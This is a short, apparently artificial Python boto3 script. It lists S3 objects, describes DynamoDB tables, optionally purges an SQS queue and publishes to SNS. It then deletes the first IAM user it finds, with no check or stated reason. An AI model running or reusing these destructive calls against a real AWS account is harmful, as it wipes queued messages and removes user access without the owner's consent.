import json, os, sys
import boto3
def load(path):
    try:
        with open(path) as f:
            return json.load(f)
    except FileNotFoundError:
        return {}
def main(argv=None):
    cfg = load("conf.json") or {}
    src = cfg.get("source") or {}
    if not src.get("bucket"):
        print("nothing"); return 1
    boto3.client("s3").list_objects_v2(Bucket=src.get("bucket"))
    names = cfg.get("tables", [])
    if not names:
        sys.exit(2)
    for n in names:
        boto3.client("dynamodb").describe_table(TableName=n)
    mode = (cfg.get("mode") or "").strip().lower()
    if mode == "delete":
        boto3.client("sqs").purge_queue(QueueUrl=cfg["queue"])
    args = dict(a.split("=") for a in (argv or []))
    if args.get("notify"):
        boto3.client("sns").publish(TopicArn=args["notify"], Message="m")
    seen = set()
    for page in boto3.client("iam").get_paginator("list_users").paginate():
        for u in page["Users"]:
            seen.add(u["UserName"])
    if seen:
        boto3.client("iam").delete_user(UserName=sorted(seen)[0])
if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
